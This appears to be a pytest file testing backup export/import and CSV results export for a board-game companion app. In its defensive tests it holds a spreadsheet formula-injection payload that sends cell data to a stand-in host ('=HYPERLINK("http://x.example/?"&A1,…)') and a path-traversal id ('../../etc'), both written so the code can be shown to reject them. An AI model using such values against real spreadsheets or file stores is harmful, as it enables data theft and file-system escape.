"""Export / import of everything, one game as JSON, results as CSV."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from companion.history.backup import (
    APP_SETTING_KEYS,
    CORRECTION_KEYS,
    FORMAT,
    BackupError,
    backup_json,
    export_backup,
    export_game,
    game_json,
    games_as_objects,
    import_backup,
    legacy_key,
    parse_backup,
    results_csv,
)
from companion.history.names import MERGE_SETTING
from companion.history.records import build_records
from companion.store.tinydb_store import TinyDBStore
from companion.village.service import VillageService, calibration_key
from tests.history.helpers import finished_tally, finished_village


def _filled(root: Path) -> TinyDBStore:
    store = TinyDBStore(root)
    svc = VillageService(store)
    finished_village(svc, ["Zoë", "Bo", "Cy"], seed=1)
    finished_village(svc, ["Ann"], seed=2, solo_game=True)
    svc.create(_setup())  # an unfinished game is backed up too
    finished_tally(store, "villagers", ["Ann", "Bo"])
    finished_tally(store, "small-city", ["Ann", "Bo"])
    store.set_setting("app.theme", "dark")
    store.set_setting("app.language", "de")
    store.set_setting(calibration_key("big-box"), {"start_coins": 7})
    store.set_setting("calibration_checked:village:big-box", ["start_coins"])
    store.set_setting(MERGE_SETTING, {"Chris": "Christopher"})
    return store


def _setup() -> Any:
    from companion.village.setup import PlayerSetup, VillageSetup

    return VillageSetup(players=[PlayerSetup(name="Al", colour="blue"),
                                 PlayerSetup(name="Di", colour="red")], seed=9)


def _folder_bytes(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*"))
            if p.is_file() and p.suffix != ".lock"}


def _games(store: TinyDBStore) -> dict[str, Any]:
    out = {}
    for info in store.list_sessions():
        s = store.load(info.id)
        out[info.id] = (info.game, s.title, s.header, s.events, s.redo, s.finished,
                        s.summary)
    return out


def test_app_setting_keys_are_the_apps() -> None:
    from companion.app import settings

    keys = {v for k, v in vars(settings).items() if k.startswith("KEY_")}
    assert set(APP_SETTING_KEYS) == keys


def test_export_then_import_into_an_empty_folder_gives_identical_games(
        tmp_path: Path) -> None:
    source = _filled(tmp_path / "a")
    text = backup_json(source)
    data = json.loads(text)
    assert (data["format"], data["version"]) == (FORMAT, 2)
    assert len(data["games"]) == 5
    target = TinyDBStore(tmp_path / "b")
    report = import_backup(target, text)
    assert sorted(report.imported) == sorted(_games(source)) and not report.renamed
    assert _games(target) == _games(source)
    for key in (*APP_SETTING_KEYS, *CORRECTION_KEYS, MERGE_SETTING):
        assert target.get_setting(key, "unset") == source.get_setting(key, "unset")
    assert set(report.settings_imported) == set(data["settings"])
    # A Village game replays to the very same state.
    for info in source.list_sessions():
        if info.game == "village":
            before = VillageService(source).open(info.id)
            after = VillageService(target).open(info.id)
            assert after.state == before.state and after.events == before.events
    # History reads the same records from both (only the store's save time differs).
    def records(store: TinyDBStore) -> list[Any]:
        return sorted((r.model_copy(update={"updated_at": ""})
                       for r in build_records(store.list_sessions()).records),
                      key=lambda r: r.id)

    assert records(target) == records(source) and len(records(source)) == 4


def test_the_file_holds_what_export_backup_gives_and_the_store_is_unchanged(
        tmp_path: Path) -> None:
    """backup_json reads the games without copies: its text holds the same games as the
    copying export_backup, and the store's games are as before (read again from the
    store's own cache and from a new store on the same folder)."""
    source = _filled(tmp_path / "a")
    before = _games(source)
    text = json.loads(backup_json(source))
    copied = export_backup(source)
    assert games_as_objects(text["games"]) == copied["games"]
    assert text["settings"] == copied["settings"]
    assert _games(source) == before == _games(TinyDBStore(tmp_path / "a"))


def test_a_games_own_older_settings_go_with_it(tmp_path: Path) -> None:
    """Settings an older version kept per game ("session:<id>:prefs", ":engine") go with
    the game, read from the one settings read of the export."""
    source = _filled(tmp_path / "a")
    first, second = sorted(info.id for info in source.list_sessions())[:2]
    source.set_setting(legacy_key(first, "prefs"), {"draw_mode": "manual"})
    source.set_setting(legacy_key(first, "engine"), 1)
    source.set_setting(legacy_key(second, "prefs"), {"karla_policy": "auto"})
    source.set_setting(legacy_key("no-such-game", "prefs"), {"draw_mode": "app"})
    text = backup_json(source)
    # Version 2: among the settings, under their own keys; import gives them their game.
    assert set(json.loads(text)["settings"]) >= {
        legacy_key(first, "prefs"), legacy_key(first, "engine"), legacy_key(second, "prefs")}
    assert legacy_key("no-such-game", "prefs") not in json.loads(text)["settings"]
    games = {g.id: g for g in parse_backup(text).games}
    assert games[first].settings == {"prefs": {"draw_mode": "manual"}, "engine": 1}
    assert games[second].settings == {"prefs": {"karla_policy": "auto"}}
    assert all(not g.settings for gid, g in games.items() if gid not in (first, second))
    # Version 1 (export_backup) keeps them inside the game's object.
    objects = {g["id"]: g for g in export_backup(source)["games"]}
    assert objects[second]["settings"] == {"prefs": {"karla_policy": "auto"}}


def test_importing_twice_adds_nothing(tmp_path: Path) -> None:
    source = _filled(tmp_path / "a")
    text = backup_json(source)
    target = TinyDBStore(tmp_path / "b")
    import_backup(target, text)
    target.list_sessions()  # index.json is a cache: brought up to date first
    before = _folder_bytes(tmp_path / "b")
    report = import_backup(target, text)
    assert report.imported == [] and report.renamed == {} and len(report.skipped) == 5
    assert report.settings_imported == [] and report.settings_kept == []
    assert _folder_bytes(tmp_path / "b") == before


def test_same_id_with_a_different_log_keeps_both(tmp_path: Path) -> None:
    source = _filled(tmp_path / "a")
    data = export_backup(source)
    target = TinyDBStore(tmp_path / "b")
    import_backup(target, json.dumps(data))
    changed = next(g for g in data["games"] if g["game"] == "village" and g["finished"])
    changed["events"] = changed["events"][:-3]  # the same game, played differently
    target.set_setting("app.theme", "light")  # the user's own choice here
    report = import_backup(target, json.dumps(data), new_id=lambda: "copy0001")
    assert report.renamed == {changed["id"]: "copy0001"}
    assert report.settings_kept == ["app.theme"] and target.get_setting("app.theme") == "light"
    assert target.load(changed["id"]).events == source.load(changed["id"]).events
    assert target.load("copy0001").events == changed["events"]
    assert target.load("copy0001").header == changed["header"]
    # Importing that file again finds the copy: nothing more is added.
    again = import_backup(target, json.dumps(data), new_id=lambda: "copy0002")
    assert again.renamed == {} and changed["id"] in again.skipped
    assert len(target.list_sessions()) == 6


def _damaged_cases(good: dict[str, Any]) -> list[tuple[bytes, str]]:
    def variant(change: Any) -> bytes:
        copy = json.loads(json.dumps(good))
        change(copy)
        return json.dumps(copy).encode()

    second_id = good["games"][1]["id"]
    return [
        (b"", "not readable JSON"),
        (json.dumps(good).encode()[:-40], "not readable JSON"),
        (b"\xff\xfe garbage", "not readable JSON"),
        (b"[1, 2]", "not a JSON object"),
        (json.dumps({"some": "other app"}).encode(), "not a Village Companion backup"),
        (variant(lambda d: d.update(format="village-companion-game")), "one exported game"),
        (variant(lambda d: d.update(version=99)), "newer Village Companion"),
        (variant(lambda d: d.update(version="1")), "not a version number"),
        (variant(lambda d: d["games"][1].update(events="nope")), "games.1.events"),
        (variant(lambda d: d["games"][1].update(id="../../etc")), "games.1.id"),
        (variant(lambda d: d["games"][1].pop("header")), "games.1.header"),
        (variant(lambda d: d["games"][1]["events"].append(3)), "games.1.events"),
        (variant(lambda d: d["games"][0].update(id=second_id)), "appears twice"),
        (variant(lambda d: d.update(settings=[])), "settings"),
        (variant(lambda d: d.update(extra=1)), "extra"),
        (variant(lambda d: d["games"][0]["summary"].update(x=float("nan"))),
         "damaged backup"),
    ]


def test_damaged_or_foreign_files_change_nothing(tmp_path: Path) -> None:
    source = _filled(tmp_path / "a")
    good = export_backup(source)
    # The last game imports fine on its own: a damaged file fails before any write.
    target = TinyDBStore(tmp_path / "b")
    import_backup(target, json.dumps({**good, "games": good["games"][:1]}))
    target.list_sessions()  # index.json is a cache: brought up to date first
    before = _folder_bytes(tmp_path / "b")
    for data, why in _damaged_cases(good):
        with pytest.raises(BackupError) as err:
            import_backup(target, data)
        assert why in str(err.value), (why, str(err.value))
        assert _folder_bytes(tmp_path / "b") == before


def test_a_failing_write_takes_back_what_this_import_created(tmp_path: Path,
                                                             monkeypatch: Any) -> None:
    source = _filled(tmp_path / "a")
    target = TinyDBStore(tmp_path / "b")
    calls = []
    real_create = target.create

    def create(*args: Any, **kwargs: Any) -> int:
        calls.append(args[0])
        if len(calls) == 3:
            raise OSError("disk full")
        return real_create(*args, **kwargs)

    monkeypatch.setattr(target, "create", create)
    with pytest.raises(OSError):
        import_backup(target, backup_json(source))
    assert target.list_sessions() == []
    assert target.get_setting("app.theme") is None


def test_one_game_as_json_replays(tmp_path: Path) -> None:
    store = TinyDBStore(tmp_path)
    sid = finished_village(VillageService(store), ["Ann", "Bo"], seed=4)
    game = json.loads(game_json(store, sid))
    assert game["format"] == "village-companion-game" and game["id"] == sid
    assert game["header"]["setup"]["players"][0]["name"] == "Ann"
    assert game["events"] == store.load(sid).events
    export_game(store, sid)
    # Enough to replay: the header's setup and components, and the log.
    from companion.village.components import ComponentData
    from companion.village.session import VillageSession
    from companion.village.setup import VillageSetup

    replayed = VillageSession(
        VillageSetup.model_validate(game["header"]["setup"], context={"stored": True}),
        ComponentData.model_validate(game["header"]["components"]), game["events"])
    assert replayed.state == VillageService(store).open(sid).state


def test_results_csv_has_one_row_per_player_per_game(tmp_path: Path) -> None:
    store = _filled(tmp_path)
    records = build_records(store.list_sessions()).records
    rows = list(csv.DictReader(io.StringIO(results_csv(records))))
    assert len(rows) == sum(r.player_count for r in records) == 3 + 1 + 2 + 2
    village = [r for r in rows if r["game"] == "village" and r["solo"] == "no"]
    assert {r["player"] for r in village} == {"Zoë", "Bo", "Cy"}
    assert all(r["prestige"] != "" and r["edition"] == "big-box" for r in village)
    assert sum(r["winner"] == "yes" for r in village) >= 1
    assert sum(r["start_player"] == "yes" for r in village) == 1
    out = [r for r in rows if r["game"] == "small-city" and r["player"] == "Bo"]
    assert out[0]["score"] == "" and out[0]["eliminated"] == "yes"


def test_csv_cells_never_start_a_formula() -> None:
    from tests.history.helpers import info, village

    records = build_records([info("x", village({"=cmd()": 3, "Bo": 2}))]).records
    assert "'=cmd()" in results_csv(records)


def test_csv_header_and_every_cell_is_safe_from_formulas() -> None:
    """Issue 22.5: a score-category name from an imported game reaches the header row;
    it must arrive as text ('=HYPERLINK…), like every other cell (OWASP: leading =, +,
    -, @, tab, CR get a ', and every cell is quoted)."""
    from tests.history.helpers import info, village

    hostile = '=HYPERLINK("http://x.example/?"&A1,"click")'
    names = {"+Ann": 3, "-Bo": 2, "@Cy": 1, "\tDee": 0, "\rEd": 0}
    cats = {n: {hostile: 1, "coins": 2} for n in names}
    records = build_records([info("x", village(names, categories=cats),
                                  title="=1+1")]).records
    text = results_csv(records)
    rows = list(csv.reader(io.StringIO(text)))
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    assert rows[0][-2:] == ["'" + hostile, "coins"]
    assert all(not cell.startswith(dangerous) for row in rows for cell in row)
    player = rows[0].index("player")
    assert {"'+Ann", "'-Bo", "'@Cy"} <= {r[player] for r in rows[1:]}
    assert all(line.startswith('"') for line in text.splitlines() if line)


def test_an_import_keeps_when_each_game_was_last_played(tmp_path: Path) -> None:
    """Issue 22.8: importing is no play. An imported game keeps its last played (the
    backup's updated_at where its summary names none) and does not go to the top of
    "Continue a game" above a game played here since."""
    from companion.history.cache import HistoryCache
    from companion.history.played import PLAYED_KEY, last_played

    backup = {"format": FORMAT, "version": 1, "settings": {}, "games": [
        {"id": "old", "game": "villagers", "title": "Ann, Bo",
         "updated_at": "2024-03-01T10:00:00.000Z", "finished": False,
         "summary": {"players": ["Ann", "Bo"]}, "events": [],
         "header": {"kind": "tally", "schema": 1, "game": "villagers",
                    "setup": {"game": "villagers", "players": ["Ann", "Bo"], "seed": 1}}}]}
    kept = json.loads(json.dumps(backup))
    kept["games"][0]["id"] = "older"
    kept["games"][0]["summary"][PLAYED_KEY] = "2023-01-01T09:00:00.000Z"
    store = TinyDBStore(tmp_path)
    finished_tally(store, "villagers", ["Cy", "Di"])
    from companion.tally.service import TallyService

    recent, _ = TallyService(store).create("villagers", ["Ed", "Flo"])
    for data in (backup, kept):
        report = import_backup(store, json.dumps(data))
        assert report.imported and not report.not_imported
    infos = {i.id: i for i in store.list_sessions()}
    assert last_played(infos["old"]) == "2024-03-01T10:00:00.000Z"
    assert last_played(infos["older"]) == "2023-01-01T09:00:00.000Z"
    assert [i.id for i in HistoryCache().unfinished(store)] == [recent, "old", "older"]


def test_an_import_stores_the_summary_its_replay_gives_not_the_files(
        tmp_path: Path) -> None:
    """Issue 22: a backup's summary is not trusted. A game whose file claims another
    score, other winners, or to be finished when its log is not, is stored with what its
    engine's replay says (the play date and last played are kept: a replay cannot know)."""
    source = _filled(tmp_path / "a")
    data = json.loads(backup_json(source))
    data.update(version=1, games=games_as_objects(data["games"]))  # games as objects
    truth = json.loads(json.dumps({g["id"]: (g["finished"], g["summary"])
                                   for g in data["games"]}))
    solo = next(g for g in data["games"] if g["game"] == "village" and g["summary"]["solo"])
    multi = next(g for g in data["games"] if g["game"] == "village" and g["finished"]
                 and not g["summary"]["solo"])
    tally = next(g for g in data["games"] if g["game"] == "small-city")
    unfinished = next(g for g in data["games"] if not g["finished"])
    loser = next(p for p in multi["summary"]["players"] if p not in multi["summary"]["winners"])
    multi["summary"]["scores"][loser] = 999  # a tampered score ...
    multi["summary"]["winners"] = [loser]  # ... and winner
    multi["summary"]["categories"][loser]["church"] = 500
    solo["summary"]["achievement"] = "sage"
    solo["summary"]["scores"] = {p: 1000 for p in solo["summary"]["scores"]}
    first = tally["summary"]["players"][0]
    tally["summary"]["scores"][first] = 12345
    tally["summary"]["winners"] = [first]
    unfinished["finished"] = True  # claims to be over: its log is not
    unfinished["summary"].update(scores={"Al": 80, "Di": 1}, winners=["Al"], phase="finished")
    target = TinyDBStore(tmp_path / "b")
    report = import_backup(target, json.dumps(data))
    assert not report.not_imported and len(report.imported) == len(truth)
    for game_id, (finished, summary) in truth.items():
        stored = target.load(game_id)
        assert [stored.finished, stored.summary] == [finished, summary], game_id
    records = {r.id: r for r in build_records(target.list_sessions()).records}
    assert unfinished["id"] not in records
    assert {p.name: p.score for p in records[multi["id"]].players} == truth[multi["id"]][1][
        "scores"]
